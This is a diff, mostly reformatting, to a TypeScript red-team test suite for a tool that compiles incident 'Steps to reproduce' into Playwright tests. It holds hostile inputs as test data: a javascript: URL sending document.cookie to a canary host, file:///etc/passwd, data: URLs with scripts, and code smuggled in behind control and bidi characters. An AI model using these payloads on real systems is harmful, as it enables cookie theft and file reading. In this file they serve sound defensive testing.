@@ -18,11 +18,18 @@ const context = { incidentId: header.incidentId, flowId: header.flowId, origin: 
 
 /** The literals a spec navigates to or requests: page.goto(…), page.request.get(…), page.request.fetch(…). */
 function targetsOf(body: readonly string[]): string[] {
-  return body.flatMap((line) => [...line.matchAll(/page\.(?:goto|request\.get|request\.fetch)\(("(?:[^"\\]|\\.)*")/g)].map((m) => JSON.parse(m[1]!) as string));
+  return body.flatMap((line) =>
+    [...line.matchAll(/page\.(?:goto|request\.get|request\.fetch)\(("(?:[^"\\]|\\.)*")/g)].map(
+      (m) => JSON.parse(m[1]!) as string,
+    ),
+  );
 }
 
 function syntaxErrors(code: string): string[] {
-  const { diagnostics = [] } = ts.transpileModule(code, { reportDiagnostics: true, compilerOptions: { target: ts.ScriptTarget.ES2022 } });
+  const { diagnostics = [] } = ts.transpileModule(code, {
+    reportDiagnostics: true,
+    compilerOptions: { target: ts.ScriptTarget.ES2022 },
+  });
   return diagnostics.map((d) => ts.flattenDiagnosticMessageText(d.messageText, ' '));
 }
 
@@ -32,7 +39,9 @@ function expectContained(compiled: CompiledSteps, origins: string[] = [base]): v
   for (const target of targetsOf(compiled.body)) expect(origins, target).toContain(new URL(target, base).origin);
   const spec = specSource(header, compiled.body);
   expect(syntaxErrors(spec)).toEqual([]);
-  const policyProblems = checkSpec(spec, { ...context, allowedOrigins: origins.slice(1) }).problems.filter((p) => !p.startsWith('no incident assertion'));
+  const policyProblems = checkSpec(spec, { ...context, allowedOrigins: origins.slice(1) }).problems.filter(
+    (p) => !p.startsWith('no incident assertion'),
+  );
   expect(policyProblems).toEqual([]);
 }
 
@@ -42,15 +51,20 @@ function expectRefused(compiled: CompiledSteps, reason: RegExp | 'no rule'): voi
   for (const problem of compiled.problems) {
     if (problem.reason) expect(problem.reason).toMatch(/^(step|line) \d+: /);
     else expect(problem.text.length).toBeGreaterThan(0);
-    expect(problem.text).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u2028\u2029\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff]/);
+    expect(problem.text).not.toMatch(
+      /[\u0000-\u001f\u007f-\u009f\u2028\u2029\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff]/,
+    );
   }
   if (reason === 'no rule') expect(compiled.problems.some((p) => p.reason === undefined)).toBe(true);
   else expect(compiled.problems.map((p) => p.reason ?? '').join('\n')).toMatch(reason);
 }
 
-const offOrigin = new RegExp(`reaches ${C.replaceAll('.', '\\.')}, outside baseURL's origin ${base.replaceAll('.', '\\.')}`);
+const offOrigin = new RegExp(
+  `reaches ${C.replaceAll('.', '\\.')}, outside baseURL's origin ${base.replaceAll('.', '\\.')}`,
+);
 const scheme = (name: string) => new RegExp(`uses the ${name}: scheme`);
-const char = (step: number, code: string, kind: string) => new RegExp(`^step ${step}: U\\+${code} \\(${kind}\\) is not allowed`);
+const char = (step: number, code: string, kind: string) =>
+  new RegExp(`^step ${step}: U\\+${code} \\(${kind}\\) is not allowed`);
 const vacuous = /so this Expect proves nothing/;
 
 type Case = [name: string, steps: string, outcome: RegExp | 'no rule' | 'compiles'];
@@ -58,26 +72,58 @@ type Case = [name: string, steps: string, outcome: RegExp | 'no rule' | 'compile
 const controlAndInvisible: Case[] = [
   ['U+0001 before http://canary', `Go to \u0001${C}/`, char(1, '0001', 'a control character')],
   ['U+001F before //canary', `Go to \u001f//${H}/`, char(1, '001F', 'a control character')],
-  ['NUL before javascript: (Markdown shows U+FFFD; the raw line is refused)', 'Go to \u0000javascript:alert(1)', /^step 1: U\+0000 \(a control character\) is not allowed, even where a reader does not see it/],
+  [
+    'NUL before javascript: (Markdown shows U+FFFD; the raw line is refused)',
+    'Go to \u0000javascript:alert(1)',
+    /^step 1: U\+0000 \(a control character\) is not allowed, even where a reader does not see it/,
+  ],
   ['NEL (C1) before //canary', `Go to \u0085//${H}`, char(1, '0085', 'a control character')],
   ['CSI (C1) before data:', 'Go to \u009bdata:text/html,x', char(1, '009B', 'a control character')],
   ['a zero-width space before http://canary', `Go to \u200b${C}`, char(1, '200B', 'an invisible character')],
   ['a left-to-right mark before //canary', `Go to \u200e//${H}`, char(1, '200E', 'a bidirectional control')],
-  ['a right-to-left override before javascript:', 'Go to \u202ejavascript:alert(1)', char(1, '202E', 'a bidirectional control')],
+  [
+    'a right-to-left override before javascript:',
+    'Go to \u202ejavascript:alert(1)',
+    char(1, '202E', 'a bidirectional control'),
+  ],
   ['isolates around //canary', `Go to \u2066//${H}\u2069`, char(1, '2066', 'a bidirectional control')],
   ['a BOM before file:', 'Go to \ufefffile:///etc/passwd', char(1, 'FEFF', 'an invisible character')],
   ['a line separator before //canary', `Go to \u2028//${H}`, char(1, '2028', 'a line separator')],
-  ['a paragraph separator in quoted text', 'Wait for the text "a\u2029await page.goto(1)"', char(1, '2029', 'a paragraph separator')],
+  [
+    'a paragraph separator in quoted text',
+    'Wait for the text "a\u2029await page.goto(1)"',
+    char(1, '2029', 'a paragraph separator'),
+  ],
   ['a soft hyphen in a path', 'Go to /pricing\u00ad', char(1, '00AD', 'an invisible character')],
   ['a tag character in a name', 'Click "Pay\u{e0041}"', char(1, 'E0041', 'an invisible character')],
   ['a character reference to a zero-width space', `Go to &#x200b;//${H}`, char(1, '200B', 'an invisible character')],
-  ['a character reference to a line feed, second step', `Go to /a\nFill "Name" with "a&#10;Go to //${H}"`, char(2, '000A', 'a control character')],
+  [
+    'a character reference to a line feed, second step',
+    `Go to /a\nFill "Name" with "a&#10;Go to //${H}"`,
+    char(2, '000A', 'a control character'),
+  ],
   ['a tab between the words and the URL', `Go to\t//${H}`, char(1, '0009', 'a control character')],
   ['a terminal escape in a name', 'Click "\u001b[2JSave"', char(1, '001B', 'a control character')],
-  ['a bidi control hidden in a comment', 'Go to /a <!-- \u202e -->', /^step 1: U\+202E \(a bidirectional control\) is not allowed, even where a reader does not see it/],
-  ['a vertical tab before code', 'Wait for the text "a\vawait page.evaluate(() => 1); //"', char(1, '000B', 'a control character')],
-  ['a form feed in a URL part', 'Expect the URL to contain /a\fawait page.evaluate(() => 1); //', char(1, '000C', 'a control character')],
-  ['a CR ends the line, as Markdown reads it: neither half is a step', 'Wait for the text "a\rawait page.evaluate(() => 1); //"', 'no rule'],
+  [
+    'a bidi control hidden in a comment',
+    'Go to /a <!-- \u202e -->',
+    /^step 1: U\+202E \(a bidirectional control\) is not allowed, even where a reader does not see it/,
+  ],
+  [
+    'a vertical tab before code',
+    'Wait for the text "a\vawait page.evaluate(() => 1); //"',
+    char(1, '000B', 'a control character'),
+  ],
+  [
+    'a form feed in a URL part',
+    'Expect the URL to contain /a\fawait page.evaluate(() => 1); //',
+    char(1, '000C', 'a control character'),
+  ],
+  [
+    'a CR ends the line, as Markdown reads it: neither half is a step',
+    'Wait for the text "a\rawait page.evaluate(() => 1); //"',
+    'no rule',
+  ],
 ];
 
 const backslashesAndHosts: Case[] = [
@@ -107,7 +153,11 @@ const backslashesAndHosts: Case[] = [
 const otherSchemes: Case[] = [
   ['javascript:', `Go to javascript:fetch('//${H}/'+document.cookie)`, scheme('javascript')],
   ['JaVaScRiPt:', 'Go to JaVaScRiPt:alert(1)', scheme('javascript')],
-  ['data: (its <script> is inline HTML, the scheme stays)', `Go to data:text/html,<script>fetch('//${H}')</script>`, scheme('data')],
+  [
+    'data: (its <script> is inline HTML, the scheme stays)',
+    `Go to data:text/html,<script>fetch('//${H}')</script>`,
+    scheme('data'),
+  ],
   ['file:', 'Go to file:///etc/passwd', scheme('file')],
   ['view-source:', `Go to view-source:${C}`, scheme('view-source')],
   ['blob:', `Go to blob:${C}/x`, scheme('blob')],
@@ -119,7 +169,11 @@ const otherSchemes: Case[] = [
 ];
 
 const hiddenMarkdown: Case[] = [
-  ['steps inside a multi-line HTML comment', `1. Go to /a\n<!--\n2. Go to ${C}/hidden\n3. Expect the URL to contain /x\n-->\n4. Click "Save"`, 'compiles'],
+  [
+    'steps inside a multi-line HTML comment',
+    `1. Go to /a\n<!--\n2. Go to ${C}/hidden\n3. Expect the URL to contain /x\n-->\n4. Click "Save"`,
+    'compiles',
+  ],
   ['a comment left open hides the rest', `Go to /a\n<!--\nGo to //${H}`, 'compiles'],
   ['an inline comment over lines inside a paragraph', `Go to /a <!--\nGo to //${H}\n-->`, 'compiles'],
   ['an inline comment after a step', `Click "Save" <!-- Go to //${H} -->`, 'compiles'],
@@ -145,7 +199,11 @@ const literalBreakouts: Case[] = [
 ];
 
 const vacuousExpects: Case[] = [
-  ['the URL contains /', 'Go to /a\nExpect the URL to contain /', /^step 2: every URL of http:\/\/127\.0\.0\.1:3000 contains "\/"/],
+  [
+    'the URL contains /',
+    'Go to /a\nExpect the URL to contain /',
+    /^step 2: every URL of http:\/\/127\.0\.0\.1:3000 contains "\/"/,
+  ],
   ['the URL contains the host', 'Expect the URL to contain 127.0.0.1:3000', vacuous],
   ['the URL contains http', 'Expect the URL to contain http', vacuous],
   ['the URL contains ""', 'Expect the URL to contain ""', vacuous],
@@ -198,7 +256,10 @@ describe('steps red team', () => {
   it('hidden steps never reach the spec, and visible ones keep their numbers and lines', () => {
     const compiled = compileSteps(hiddenMarkdown[0]![1], 20, policy);
     if (!compiled.ok) throw new Error('expected ok');
-    expect(compiled.steps).toEqual([{ number: 1, text: 'Go to /a', line: 20 }, { number: 2, text: 'Click "Save"', line: 25 }]);
+    expect(compiled.steps).toEqual([
+      { number: 1, text: 'Go to /a', line: 20 },
+      { number: 2, text: 'Click "Save"', line: 25 },
+    ]);
     for (const [, steps, outcome] of hiddenMarkdown) {
       const result = compileSteps(steps, 1, policy);
       if (outcome === 'compiles' && result.ok) expect(result.body.join('\n')).not.toContain('4999');
@@ -236,7 +297,10 @@ describe('steps red team', () => {
     expectContained(compiled, [base, 'https://js.stripe.com']);
     expect(compiled.ok && targetsOf(compiled.body)).toEqual(['https://js.stripe.com/v3', '/a']);
     expectRefused(compileSteps('Go to https://js.stripe.com/v3', 1, policy), /reaches https:\/\/js\.stripe\.com/);
-    expectRefused(compileSteps(`Go to ${C}`, 1, allowed), /outside baseURL's origin http:\/\/127\.0\.0\.1:3000 and allowedOrigins/);
+    expectRefused(
+      compileSteps(`Go to ${C}`, 1, allowed),
+      /outside baseURL's origin http:\/\/127\.0\.0\.1:3000 and allowedOrigins/,
+    );
   });
 });
 
@@ -250,7 +314,16 @@ describe('huge incidents compile or are refused quickly', () => {
   it('a 300 KB steps section is refused with its size, at once', () => {
     const steps = 'Go to /pricing\n'.repeat(20_480);
     const [compiled, ms] = timed(() => compileSteps(steps, 7, policy));
-    expect(compiled).toEqual({ ok: false, problems: [{ line: 7, text: '(300 KB of steps)', reason: 'the steps are 300 KB; the compiler reads at most 64 KB (a regression test needs a few dozen steps)' }] });
+    expect(compiled).toEqual({
+      ok: false,
+      problems: [
+        {
+          line: 7,
+          text: '(300 KB of steps)',
+          reason: 'the steps are 300 KB; the compiler reads at most 64 KB (a regression test needs a few dozen steps)',
+        },
+      ],
+    });
     expect(ms).toBeLessThan(500);
   });
 
@@ -264,8 +337,13 @@ describe('huge incidents compile or are refused quickly', () => {
   it('finds the section of a 250 KB incident of pathological Markdown in linear time', () => {
     const size = 250 * 1024;
     const bodies = {
-      emphasis: '*a'.repeat(size / 2), brackets: '['.repeat(size), nestedLists: '- '.repeat(size / 2), nestedQuotes: '> '.repeat(size / 2),
-      setextHeadings: 'a\n=\n'.repeat(size / 4), comments: '<!--\n'.repeat(size / 5), references: '[a]: b\n'.repeat(size / 7),
+      emphasis: '*a'.repeat(size / 2),
+      brackets: '['.repeat(size),
+      nestedLists: '- '.repeat(size / 2),
+      nestedQuotes: '> '.repeat(size / 2),
+      setextHeadings: 'a\n=\n'.repeat(size / 4),
+      comments: '<!--\n'.repeat(size / 5),
+      references: '[a]: b\n'.repeat(size / 7),
     };
     for (const [name, filler] of Object.entries(bodies)) {
       const body = `## What happened\n${filler}\n\n## Steps to reproduce\n1. Go to /a\n\n## Expected\n`;
@@ -278,7 +356,9 @@ describe('huge incidents compile or are refused quickly', () => {
   });
 
   it('refuses 64 KB of control characters, one problem a line, in linear time', () => {
-    const [compiled, ms] = timed(() => compileSteps('Go to /\u0001\n'.repeat(Math.floor(stepsLimits.chars / 9)), 1, policy));
+    const [compiled, ms] = timed(() =>
+      compileSteps('Go to /\u0001\n'.repeat(Math.floor(stepsLimits.chars / 9)), 1, policy),
+    );
     expect(!compiled.ok && compiled.problems.length).toBe(Math.floor(stepsLimits.chars / 9));
     expect(ms).toBeLessThan(3_000);
   });
@@ -288,7 +368,11 @@ describe('huge incidents compile or are refused quickly', () => {
       const steps = `Go to /a\n${filler.repeat(Math.floor((stepsLimits.chars - 20) / filler.length))}`;
       const [compiled, ms] = timed(() => compileSteps(steps, 1, policy));
       // lists nested past 20 levels are not read (markdown-it's bound): what compiles is less, never more
-      if (compiled.ok) expect(compiled.steps.map((step) => step.text), filler).toEqual(['Go to /a']);
+      if (compiled.ok)
+        expect(
+          compiled.steps.map((step) => step.text),
+          filler,
+        ).toEqual(['Go to /a']);
       expect(ms, filler).toBeLessThan(3_000);
     }
   });
@@ -297,15 +381,37 @@ describe('huge incidents compile or are refused quickly', () => {
 describe('the Steps to reproduce section, as a reader sees it', () => {
   it('skips a heading hidden in a comment or a code block, and ends at the next heading of its level', () => {
     const body = [
-      '## What happened', '<!--', '## Steps to reproduce', `Go to ${C}/hidden`, '-->', '```', '## Steps to reproduce', '```',
-      '## Steps to reproduce', '1. Go to /ok', '### Notes', 'Press Enter', '## Expected', 'Checkout.',
+      '## What happened',
+      '<!--',
+      '## Steps to reproduce',
+      `Go to ${C}/hidden`,
+      '-->',
+      '```',
+      '## Steps to reproduce',
+      '```',
+      '## Steps to reproduce',
+      '1. Go to /ok',
+      '### Notes',
+      'Press Enter',
+      '## Expected',
+      'Checkout.',
     ].join('\n');
-    expect(markdownSection(body, 'Steps to reproduce')).toEqual({ text: '1. Go to /ok\n### Notes\nPress Enter', line: 10 });
+    expect(markdownSection(body, 'Steps to reproduce')).toEqual({
+      text: '1. Go to /ok\n### Notes\nPress Enter',
+      line: 10,
+    });
   });
 
   it('takes a heading of any level and a setext heading, not one in a list item', () => {
-    expect(markdownSection('- ## Steps to reproduce\n  Go to /x\n\nSteps to reproduce\n---\nGo to /a\n', 'Steps to reproduce')).toEqual({ text: 'Go to /a\n', line: 6 });
-    expect(markdownSection('# Steps to reproduce\nGo to /a\n## Sub\nPress Tab\n# Expected', 'steps to reproduce')?.text).toBe('Go to /a\n## Sub\nPress Tab');
+    expect(
+      markdownSection(
+        '- ## Steps to reproduce\n  Go to /x\n\nSteps to reproduce\n---\nGo to /a\n',
+        'Steps to reproduce',
+      ),
+    ).toEqual({ text: 'Go to /a\n', line: 6 });
+    expect(
+      markdownSection('# Steps to reproduce\nGo to /a\n## Sub\nPress Tab\n# Expected', 'steps to reproduce')?.text,
+    ).toBe('Go to /a\n## Sub\nPress Tab');
     expect(markdownSection('## What happened\nx', 'Steps to reproduce')).toBeUndefined();
   });
 });
@@ -313,37 +419,77 @@ describe('the Steps to reproduce section, as a reader sees it', () => {
 describe('allowedOrigins in verigap.yaml', () => {
   const parse = (yaml: string) => parseYamlWith(yaml, configSchema);
   it('takes http(s) origins', () => {
-    expect(parse('allowedOrigins: [https://js.stripe.com, "http://127.0.0.1:4000", "https://x.example:443/"]').ok).toBe(true);
+    expect(parse('allowedOrigins: [https://js.stripe.com, "http://127.0.0.1:4000", "https://x.example:443/"]').ok).toBe(
+      true,
+    );
   });
-  it.each(['https://js.stripe.com/v3', 'javascript:alert(1)', 'ftp://files.example', 'https://user@x.example', 'https://x.example?a', 'js.stripe.com'])('refuses %s, naming the line and the fix', (entry) => {
+  it.each([
+    'https://js.stripe.com/v3',
+    'javascript:alert(1)',
+    'ftp://files.example',
+    'https://user@x.example',
+    'https://x.example?a',
+    'js.stripe.com',
+  ])('refuses %s, naming the line and the fix', (entry) => {
     const parsed = parse(`baseURL: http://localhost:3000\nallowedOrigins:\n  - ${JSON.stringify(entry)}\n`);
     expect(parsed.ok).toBe(false);
-    expect(!parsed.ok && parsed.problem).toEqual({ line: 3, reason: `allowedOrigins.0: ${JSON.stringify(entry)} is not an http(s) origin: verigap.yaml's allowedOrigins lists scheme://host[:port] only, e.g. https://js.stripe.com` });
+    expect(!parsed.ok && parsed.problem).toEqual({
+      line: 3,
+      reason: `allowedOrigins.0: ${JSON.stringify(entry)} is not an http(s) origin: verigap.yaml's allowedOrigins lists scheme://host[:port] only, e.g. https://js.stripe.com`,
+    });
   });
 });
 
 describe('the code policy checks navigation targets only', () => {
-  const wrap = (body: string) => `import { test, expect } from '@playwright/test';\ntest('x @incident:${header.incidentId} @flow:shop', async ({ page }) => {\n${body}\n  await expect(page).toHaveURL(/checkout/); // @incident-assertion\n});\n`;
+  const wrap = (body: string) =>
+    `import { test, expect } from '@playwright/test';\ntest('x @incident:${header.incidentId} @flow:shop', async ({ page }) => {\n${body}\n  await expect(page).toHaveURL(/checkout/); // @incident-assertion\n});\n`;
   const problems = (body: string) => checkSpec(wrap(body), context).problems;
 
   it('leaves strings that are data alone', () => {
-    expect(problems([
-      "  await expect(page.getByText('Total: 5 items')).toBeVisible();", "  await page.getByLabel('Website').fill('https://evil.example');",
-      "  await page.getByRole('link', { name: 'mailto:help@example.com' }).click();", "  await expect(page.getByText('Note: read this')).toBeVisible();",
-      "  await expect(page.getByText('Error: email required')).toBeVisible();", "  await expect(page).toHaveTitle('https://x.com is down');",
-      "  await page.locator('internal:role=button').click();",
-    ].join('\n'))).toEqual([]);
+    expect(
+      problems(
+        [
+          "  await expect(page.getByText('Total: 5 items')).toBeVisible();",
+          "  await page.getByLabel('Website').fill('https://evil.example');",
+          "  await page.getByRole('link', { name: 'mailto:help@example.com' }).click();",
+          "  await expect(page.getByText('Note: read this')).toBeVisible();",
+          "  await expect(page.getByText('Error: email required')).toBeVisible();",
+          "  await expect(page).toHaveTitle('https://x.com is down');",
+          "  await page.locator('internal:role=button').click();",
+        ].join('\n'),
+      ),
+    ).toEqual([]);
   });
 
   it('resolves goto and request targets the way the browser does', () => {
-    for (const target of [`//${H}`, `\\\\${H}`, `/\\${H}`, ` ${C}`, `http://127\u30020\u30020\u30021:4999`, `${base}@${H}`, `https:${H}`]) {
-      expect(problems(`  await page.goto(${JSON.stringify(target)});`), target).toEqual([expect.stringMatching(/reaches http(s)?:\/\/127\.0\.0\.1:4999/)]);
-      expect(problems(`  await page.request.get(${JSON.stringify(target)});`), target).toEqual([expect.stringMatching(/reaches/)]);
+    for (const target of [
+      `//${H}`,
+      `\\\\${H}`,
+      `/\\${H}`,
+      ` ${C}`,
+      `http://127\u30020\u30020\u30021:4999`,
+      `${base}@${H}`,
+      `https:${H}`,
+    ]) {
+      expect(problems(`  await page.goto(${JSON.stringify(target)});`), target).toEqual([
+        expect.stringMatching(/reaches http(s)?:\/\/127\.0\.0\.1:4999/),
+      ]);
+      expect(problems(`  await page.request.get(${JSON.stringify(target)});`), target).toEqual([
+        expect.stringMatching(/reaches/),
+      ]);
     }
     expect(problems(`  await page['goto']('//${H}');`)).toEqual([expect.stringMatching(/page\.goto\(\): .*reaches/)]);
-    expect(problems(`  await page.goto('\\u0001${C}');`)).toEqual([expect.stringMatching(/holds U\+0001 \(a control character\)/)]);
-    expect(problems("  await page.goto('javascript:alert(1)');")).toEqual([expect.stringMatching(/uses the javascript: scheme/)]);
-    expect(problems('  const target = "/a";\n  await page.goto(target);')).toEqual([expect.stringMatching(/takes a literal path/)]);
-    expect(problems(`  await page.goto('/.//${H}');\n  await page.request.fetch('/api', { method: 'POST' });`)).toEqual([]);
+    expect(problems(`  await page.goto('\\u0001${C}');`)).toEqual([
+      expect.stringMatching(/holds U\+0001 \(a control character\)/),
+    ]);
+    expect(problems("  await page.goto('javascript:alert(1)');")).toEqual([
+      expect.stringMatching(/uses the javascript: scheme/),
+    ]);
+    expect(problems('  const target = "/a";\n  await page.goto(target);')).toEqual([
+      expect.stringMatching(/takes a literal path/),
+    ]);
+    expect(problems(`  await page.goto('/.//${H}');\n  await page.request.fetch('/api', { method: 'POST' });`)).toEqual(
+      [],
+    );
   });
 });
